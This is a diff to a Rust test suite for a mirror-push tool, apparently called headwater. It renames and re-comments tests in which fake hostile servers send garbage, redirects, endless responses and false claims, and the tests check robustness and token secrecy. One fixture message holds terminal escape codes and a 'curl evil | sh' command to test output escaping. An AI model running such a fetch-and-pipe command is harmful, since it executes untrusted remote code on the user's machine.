@@ -13,11 +13,11 @@ use headwater::tree_path::Site;
 
 use super::{Receiver, push, report, serves_tree};
 use crate::flaky_proxy::Message;
-use crate::harness::{Outcome, World};
+use crate::harness::{Outcome, Sandbox};
 use crate::trees::Tree;
 
-/// What a liar does with a connection, once it has read the head of a request.
-type Lie = dyn Fn(&mut TcpStream, &str) + Send + Sync;
+/// Handles a connection after the head of a request has been read.
+type ConnectionHandler = dyn Fn(&mut TcpStream, &str) + Send + Sync;
 
 /// A server made of a closure.
 pub(super) struct HostileReceiver {
@@ -27,19 +27,19 @@ pub(super) struct HostileReceiver {
 }
 
 impl HostileReceiver {
-    pub(super) fn start(lie: impl Fn(&mut TcpStream, &str) + Send + Sync + 'static) -> Self {
+    pub(super) fn start(handler: impl Fn(&mut TcpStream, &str) + Send + Sync + 'static) -> Self {
         let listener = TcpListener::bind("127.0.0.1:0").unwrap();
         let address = listener.local_addr().unwrap();
         let (heads, is_over) = (Arc::new(Mutex::new(Vec::new())), Arc::new(AtomicBool::new(false)));
-        let (lie, kept, over): (Arc<Lie>, _, _) =
-            (Arc::new(lie), Arc::clone(&heads), Arc::clone(&is_over));
+        let (handler, kept, over): (Arc<ConnectionHandler>, _, _) =
+            (Arc::new(handler), Arc::clone(&heads), Arc::clone(&is_over));
         std::thread::spawn(move || {
             for stream in listener.incoming() {
                 if over.load(Ordering::SeqCst) {
                     return;
                 }
-                let (lie, kept) = (Arc::clone(&lie), Arc::clone(&kept));
-                std::thread::spawn(move || converse(stream.unwrap(), &*lie, &kept));
+                let (handler, kept) = (Arc::clone(&handler), Arc::clone(&kept));
+                std::thread::spawn(move || converse(stream.unwrap(), &*handler, &kept));
             }
         });
         Self { address, heads, is_over }
@@ -57,17 +57,17 @@ impl Drop for HostileReceiver {
     }
 }
 
-fn converse(mut stream: TcpStream, lie: &Lie, heads: &Mutex<Vec<String>>) {
+fn converse(mut stream: TcpStream, handler: &ConnectionHandler, heads: &Mutex<Vec<String>>) {
     let mut reader = BufReader::new(stream.try_clone().unwrap());
     while let Some(message) = Message::whole(&mut reader) {
         heads.lock().unwrap().push(message.head());
-        lie(&mut stream, &message.head());
+        handler(&mut stream, &message.head());
     }
 }
 
 pub(super) const JSON: &str = "content-type: application/json\r\n";
 
-/// Says that all is done, as a mirror with nothing on it does.
+/// Reports success for every request, like an empty mirror.
 pub(super) fn acknowledge(stream: &mut TcpStream, head: &str) {
     let body = match head.split(' ').nth(1).unwrap() {
         path if path.ends_with("/state") => "{\"ok\":{\"unfinished\":[]}}",
@@ -77,17 +77,17 @@ pub(super) fn acknowledge(stream: &mut TcpStream, head: &str) {
     answer(stream, "200 OK", JSON, body);
 }
 
-/// Pushes to a mirror that answers the first request to each path like this and acknowledges the
-/// others, the second one to the same path included. Answers how long it was left alone in between,
-/// for each path.
+/// Pushes to a mirror that gives this response to the first request for each path and acknowledges
+/// all other requests, a repeated one included. Returns, for each path, the time until the repeated
+/// request.
 #[track_caller]
 fn push_again(status: &'static str, fields: &'static str, body: &'static str) -> Vec<Duration> {
-    let world = World::new();
-    world.write("tree", &Tree::small());
+    let sandbox = Sandbox::new();
+    sandbox.write("tree", &Tree::small());
     let refused: Arc<Mutex<Vec<(String, Instant)>>> = Arc::default();
     let pauses: Arc<Mutex<HashMap<String, Duration>>> = Arc::default();
     let (before, found) = (Arc::clone(&refused), Arc::clone(&pauses));
-    let liar = HostileReceiver::start(move |stream, head| {
+    let hostile = HostileReceiver::start(move |stream, head| {
         let path = head.split(' ').nth(1).unwrap().to_owned();
         let mut before = before.lock().unwrap();
         match before.iter().find(|(refused, _)| *refused == path) {
@@ -96,13 +96,13 @@ fn push_again(status: &'static str, fields: &'static str, body: &'static str) ->
                 answer(stream, status, fields, body);
             }
             Some((_, since)) => {
-                // Packs that are made slowly may go in more requests to stage.
+                // If packs are built slowly, a push may need more stage requests.
                 found.lock().unwrap().entry(path).or_insert_with(|| since.elapsed());
                 acknowledge(stream, head);
             }
         }
     });
-    push(&world, &[&liar.url()], &[]).expect(&[0]);
+    push(&sandbox, &[&hostile.url()], &[]).expect(&[0]);
     let (refused, pauses) = (refused.lock().unwrap(), pauses.lock().unwrap());
     let asked_again = ["/state", "/stage", "/activate"];
     assert!(
@@ -115,41 +115,46 @@ fn push_again(status: &'static str, fields: &'static str, body: &'static str) ->
 
 pub(super) fn answer(stream: &mut TcpStream, status: &str, fields: &str, body: &str) {
     let head = format!("HTTP/1.1 {status}\r\n{fields}content-length: {}\r\n\r\n{body}", body.len());
-    // Whoever has heard enough goes away.
+    // The client closes the connection when it has read enough.
     stream.write_all(head.as_bytes()).ok();
 }
 
-/// Pushes to a liar and to a directory: the directory has the tree, the liar is named.
+/// Pushes to a hostile receiver and to a directory: the directory gets the tree, and the error
+/// names the receiver.
 #[track_caller]
-fn push_beside(
-    lie: impl Fn(&mut TcpStream, &str) + Send + Sync + 'static,
+fn push_to_hostile_and_directory(
+    handler: impl Fn(&mut TcpStream, &str) + Send + Sync + 'static,
     flags: &[&str],
     words: &str,
 ) -> HostileReceiver {
-    let world = World::new();
-    world.write("tree", &Tree::small());
-    let liar = HostileReceiver::start(lie);
+    let sandbox = Sandbox::new();
+    sandbox.write("tree", &Tree::small());
+    let hostile = HostileReceiver::start(handler);
     let flags = [flags, &["--require", "1", "--json"]].concat();
-    let (tree, here, url) = (world.at("tree"), world.at("here"), liar.url());
-    let mut command = world.command(&[&["push", &tree, &url, &here], &flags[..]].concat());
+    let (tree, here, url) = (sandbox.path_text("tree"), sandbox.path_text("here"), hostile.url());
+    let mut command = sandbox.command(&[&["push", &tree, &url, &here], &flags[..]].concat());
     let outcome = Outcome::of(command.env("HEADWATER_TOKEN", "hw_a_canary")).expect(&[3]);
     let report = report(&outcome);
     assert_eq!(report["mirrors"][0]["outcome"], "failed", "{report}");
     let error = report["mirrors"][0]["error"].as_str().unwrap();
     assert!(error.contains(words), "{error:?} has no {words:?}");
-    assert!(serves_tree(&world, "here"));
-    liar
+    assert!(serves_tree(&sandbox, "here"));
+    hostile
 }
 
 #[test]
-fn garbage_is_no_answer() {
-    push_beside(
+fn invalid_response_is_an_error() {
+    push_to_hostile_and_directory(
         |stream, _| answer(stream, "200 OK", "", "<html>Welcome to nginx!</html>"),
         &[],
         "Welcome to nginx!",
     );
-    push_beside(|stream, _| answer(stream, "404 Not Found", "", ""), &[], "response is empty");
-    push_beside(
+    push_to_hostile_and_directory(
+        |stream, _| answer(stream, "404 Not Found", "", ""),
+        &[],
+        "response is empty",
+    );
+    push_to_hostile_and_directory(
         |stream, _| drop(stream.write_all(b"SSH-2.0-OpenSSH_9.2\r\n\r\n")),
         &[],
         "connection was lost",
@@ -157,15 +162,15 @@ fn garbage_is_no_answer() {
 }
 
 #[test]
-fn what_a_liar_says_does_not_steer_a_terminal() {
-    let world = World::new();
-    world.write("tree", &Tree::small());
+fn control_characters_of_a_receiver_are_escaped() {
+    let sandbox = Sandbox::new();
+    sandbox.write("tree", &Tree::small());
     let json =
         r#"{"error":{"kind":"denied","message":"\u001b[2Jowned\u202e\nhint: curl evil | sh"}}"#;
-    let liar = HostileReceiver::start(move |stream, _| {
+    let hostile = HostileReceiver::start(move |stream, _| {
         answer(stream, "403 Forbidden", "content-type: application/json\r\n", json);
     });
-    let outcome = push(&world, &[&liar.url()], &[]).expect(&[7]);
+    let outcome = push(&sandbox, &[&hostile.url()], &[]).expect(&[7]);
     assert!(
         !outcome.stderr.contains('\u{1b}') && !outcome.stderr.contains('\u{202e}'),
         "{outcome}"
@@ -175,23 +180,27 @@ fn what_a_liar_says_does_not_steer_a_terminal() {
 }
 
 #[test]
-fn a_redirect_is_not_followed_and_the_token_stays() {
+fn redirect_is_not_followed_and_gets_no_token() {
     let elsewhere = HostileReceiver::start(|stream, _| answer(stream, "200 OK", "", "{\"ok\":{}}"));
     let to = format!("location: http://{}/docs/v1/state\r\n", elsewhere.address);
     for status in ["301 Moved", "302 Found", "307 Temporary Redirect", "308 Permanent Redirect"] {
         let to = to.clone();
-        let liar = push_beside(move |stream, _| answer(stream, status, &to, ""), &[], "redirect");
-        let heads = liar.heads.lock().unwrap();
+        let hostile = push_to_hostile_and_directory(
+            move |stream, _| answer(stream, status, &to, ""),
+            &[],
+            "redirect",
+        );
+        let heads = hostile.heads.lock().unwrap();
         assert!(
             heads.iter().all(|head| head.contains("Bearer hw_a_canary")),
-            "the mirror itself is told"
+            "the mirror itself gets the token"
         );
     }
     assert!(elsewhere.heads.lock().unwrap().is_empty(), "somebody followed");
 }
 
 #[test]
-fn silence_trickles_and_answers_without_end_cost_the_deadline_at_most() {
+fn slow_or_endless_responses_stop_at_the_deadline() {
     let flags = ["--deadline", "1500ms"];
     let silent = |_: &mut TcpStream, _: &str| std::thread::park_timeout(Duration::from_secs(20));
     let trickle = |stream: &mut TcpStream, _: &str| {
@@ -205,21 +214,21 @@ fn silence_trickles_and_answers_without_end_cost_the_deadline_at_most() {
         while stream.write_all(b"5\r\n\n\n\n\n\n\r\n").is_ok() {}
     };
     let began = Instant::now();
-    push_beside(silent, &flags, "the deadline has passed");
-    push_beside(trickle, &flags, "the deadline has passed");
+    push_to_hostile_and_directory(silent, &flags, "the deadline has passed");
+    push_to_hostile_and_directory(trickle, &flags, "the deadline has passed");
     assert!(began.elapsed() < Duration::from_secs(12), "{:?}", began.elapsed());
-    push_beside(endless, &flags, "");
+    push_to_hostile_and_directory(endless, &flags, "");
     let head = |stream: &mut TcpStream, _: &str| {
         while stream.write_all(b"HTTP/1.1 200 OK\r\nx: y\r\n").is_ok() {}
     };
-    push_beside(head, &flags, "");
+    push_to_hostile_and_directory(head, &flags, "");
     assert!(began.elapsed() < Duration::from_secs(24), "{:?}", began.elapsed());
 }
 
 #[test]
-fn a_proxy_that_refuses_large_bodies_is_explained() {
+fn proxy_body_limit_is_explained() {
     let state = "{\"ok\":{\"unfinished\":[]}}";
-    let lie = move |stream: &mut TcpStream, head: &str| match head.starts_with("GET") {
+    let handler = move |stream: &mut TcpStream, head: &str| match head.starts_with("GET") {
         true => answer(stream, "200 OK", "", state),
         false => answer(
             stream,
@@ -228,19 +237,19 @@ fn a_proxy_that_refuses_large_bodies_is_explained() {
             "<html>413</html>",
         ),
     };
-    push_beside(lie, &[], "client_max_body_size");
+    push_to_hostile_and_directory(handler, &[], "client_max_body_size");
 }
 
 #[test]
-fn a_proxy_whose_receiver_does_not_run_is_explained() {
+fn proxy_without_a_running_receiver_is_explained() {
     let page = "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n</html>\r\n";
     for body in [page, ""] {
-        let world = World::new();
-        world.write("tree", &Tree::small());
-        let liar = HostileReceiver::start(move |stream, _| {
+        let sandbox = Sandbox::new();
+        sandbox.write("tree", &Tree::small());
+        let hostile = HostileReceiver::start(move |stream, _| {
             answer(stream, "502 Bad Gateway", "content-type: text/html\r\n", body);
         });
-        let outcome = push(&world, &[&liar.url()], &["--deadline", "300ms"]).expect(&[4]);
+        let outcome = push(&sandbox, &[&hostile.url()], &["--deadline", "300ms"]).expect(&[4]);
         let shows = if body.is_empty() { "receiver: nothing" } else { "receiver: 502 Bad Gateway" };
         assert!(
             outcome.stderr.contains(shows) && outcome.stderr.contains("behind the proxy"),
@@ -250,10 +259,10 @@ fn a_proxy_whose_receiver_does_not_run_is_explained() {
 }
 
 #[test]
-fn another_version_of_the_protocol_is_named() {
+fn other_protocol_version_is_reported() {
     let fields = "headwater-protocol: 7\r\ncontent-type: application/json\r\n";
     let body = "{\"error\":{\"kind\":\"version\",\"message\":\"this receiver speaks version 7\"}}";
-    push_beside(
+    push_to_hostile_and_directory(
         move |stream, _| answer(stream, "426 Upgrade Required", fields, body),
         &[],
         "requires protocol version 7",
@@ -261,21 +270,22 @@ fn another_version_of_the_protocol_is_named() {
 }
 
 #[test]
-fn a_mirror_that_acknowledges_and_stores_nothing_fools_nobody_else() {
-    let world = World::new();
-    world.write("tree", &Tree::small());
-    let liar = HostileReceiver::start(acknowledge);
-    push(&world, &[&liar.url(), &world.at("here")], &[]).expect(&[0]);
-    assert!(serves_tree(&world, "here"));
-    // Whoever looks again sees it.
-    let status = world.run(&["status", &liar.url(), &world.at("here"), "--json"]).expect(&[1]);
+fn mirror_that_stores_nothing_does_not_affect_the_others() {
+    let sandbox = Sandbox::new();
+    sandbox.write("tree", &Tree::small());
+    let hostile = HostileReceiver::start(acknowledge);
+    push(&sandbox, &[&hostile.url(), &sandbox.path_text("here")], &[]).expect(&[0]);
+    assert!(serves_tree(&sandbox, "here"));
+    // The next poll shows it.
+    let status =
+        sandbox.run(&["status", &hostile.url(), &sandbox.path_text("here"), "--json"]).expect(&[1]);
     assert!(status.stdout.contains("\"joining\""), "{status}");
 }
 
 #[test]
-fn what_a_liar_claims_to_hold_is_at_most_not_sent_to_it() {
+fn false_object_claims_affect_only_the_lying_mirror() {
     let json = "content-type: application/json\r\n";
-    // For the number of objects that were asked for.
+    // Responses for the number of requested objects.
     let claims: [fn(usize) -> String; 6] = [
         |count| {
             format!(
@@ -290,9 +300,9 @@ fn what_a_liar_claims_to_hold_is_at_most_not_sent_to_it() {
         |_| " ".repeat(1 << 20),
     ];
     for (index, claim) in claims.into_iter().enumerate() {
-        let world = World::new();
-        world.write("tree", &Tree::small());
-        let liar = HostileReceiver::start(move |stream, head| {
+        let sandbox = Sandbox::new();
+        sandbox.write("tree", &Tree::small());
+        let hostile = HostileReceiver::start(move |stream, head| {
             let length = head
                 .lines()
                 .find_map(|line| line.strip_prefix("content-length: ")?.parse::<usize>().ok());
@@ -309,22 +319,26 @@ fn what_a_liar_claims_to_hold_is_at_most_not_sent_to_it() {
             };
             answer(stream, "200 OK", json, &body);
         });
-        let outcome = push(&world, &[&liar.url(), &world.at("here")], &["--json"]).expect(&[0]);
-        assert!(serves_tree(&world, "here"));
-        assert!(liar.heads.lock().unwrap().iter().any(|head| head.contains("/holds")), "{outcome}");
+        let outcome =
+            push(&sandbox, &[&hostile.url(), &sandbox.path_text("here")], &["--json"]).expect(&[0]);
+        assert!(serves_tree(&sandbox, "here"));
+        assert!(
+            hostile.heads.lock().unwrap().iter().any(|head| head.contains("/holds")),
+            "{outcome}"
+        );
         let packs = report(&outcome)["mirrors"][0]["sent_packs"].as_u64().unwrap();
         assert_eq!(packs, u64::from(index > 0), "claim {index}: {outcome}");
     }
 }
 
 #[test]
-fn a_body_that_came_too_slowly_is_sent_again() {
+fn timed_out_request_body_is_sent_again() {
     let body = "{\"error\":{\"kind\":\"malformed\",\"message\":\"the body arrived too slowly\"}}";
     push_again("408 Request Timeout", JSON, body);
 }
 
 #[test]
-fn a_busy_receiver_is_left_alone_for_as_long_as_it_asks() {
+fn busy_receiver_is_retried_after_the_requested_delay() {
     let fields = "retry-after: 1\r\ncontent-type: application/json\r\n";
     for (status, body) in [
         (
@@ -342,18 +356,18 @@ fn a_busy_receiver_is_left_alone_for_as_long_as_it_asks() {
 }
 
 #[test]
-fn a_receiver_that_is_being_restarted_behind_its_proxy_is_asked_again() {
+fn restarting_receiver_behind_a_proxy_is_retried() {
     for status in ["502 Bad Gateway", "503 Service Unavailable", "504 Gateway Timeout"] {
         push_again(status, "content-type: text/html\r\n", "<html>one moment</html>");
     }
 }
 
 #[test]
-fn where_something_on_the_way_takes_no_chunks_it_goes_without() {
+fn refused_chunked_encoding_falls_back_to_fixed_length() {
     for status in ["411 Length Required", "501 Not Implemented"] {
-        let world = World::new();
-        world.write("tree", &Tree::small());
-        let liar =
+        let sandbox = Sandbox::new();
+        sandbox.write("tree", &Tree::small());
+        let hostile =
             HostileReceiver::start(move |stream, head| match head.contains("transfer-encoding") {
                 true => {
                     answer(
@@ -365,17 +379,17 @@ fn where_something_on_the_way_takes_no_chunks_it_goes_without() {
                 }
                 false => acknowledge(stream, head),
             });
-        push(&world, &[&liar.url()], &[]).expect(&[0]);
-        let heads = liar.heads.lock().unwrap();
+        push(&sandbox, &[&hostile.url()], &[]).expect(&[0]);
+        let heads = hostile.heads.lock().unwrap();
         assert!(heads.iter().any(|head| head.contains("transfer-encoding")), "{heads:?}");
         drop(heads);
     }
 }
 
 #[test]
-fn tokens_let_in_and_show_nowhere() {
-    let world = World::new();
-    world.write("tree", &Tree::small());
+fn token_authenticates_and_never_appears_in_output() {
+    let sandbox = Sandbox::new();
+    sandbox.write("tree", &Tree::small());
     let token = Token::random().unwrap();
     let site = Site::new("default").unwrap();
     let record = TokenRecord {
@@ -385,14 +399,14 @@ fn tokens_let_in_and_show_nowhere() {
         allow: Permission::Push,
         expires: None,
     };
-    let receiver = Receiver::with(&world.path("web"), |settings| {
+    let receiver = Receiver::with(&sandbox.path("web"), |settings| {
         settings.auth = AuthPolicy::Tokens(vec![record]);
         settings.sites[0].name = Some(site);
     });
-    let (url, tree, secret) = (receiver.url(), world.at("tree"), token.reveal());
+    let (url, tree, secret) = (receiver.url(), sandbox.path_text("tree"), token.reveal());
     let arguments = ["push", &tree, &url, "--events", "events.jsonl"];
     let run = |value: Option<&str>| {
-        let mut command = world.command(&arguments);
+        let mut command = sandbox.command(&arguments);
         if let Some(value) = value {
             command.env("HEADWATER_TOKEN", value);
         }
@@ -402,12 +416,12 @@ fn tokens_let_in_and_show_nowhere() {
     let outcomes =
         [run(None).expect(&[7]), run(Some(&wrong)).expect(&[7]), run(Some(&secret)).expect(&[0])];
     assert!(outcomes[0].stderr.contains("HEADWATER_TOKEN"), "{}", outcomes[0]);
-    assert!(serves_tree(&world, "web"));
+    assert!(serves_tree(&sandbox, "web"));
     let bare = secret.rsplit('_').next().unwrap();
     for outcome in &outcomes {
-        let events = std::fs::read_to_string(world.path("events.jsonl")).unwrap();
+        let events = std::fs::read_to_string(sandbox.path("events.jsonl")).unwrap();
         for text in [&outcome.stdout, &outcome.stderr, &events] {
-            assert!(!text.contains(bare) && !text.contains("canary"), "a secret shows in {text}");
+            assert!(!text.contains(bare) && !text.contains("canary"), "a secret appears in {text}");
         }
     }
 }
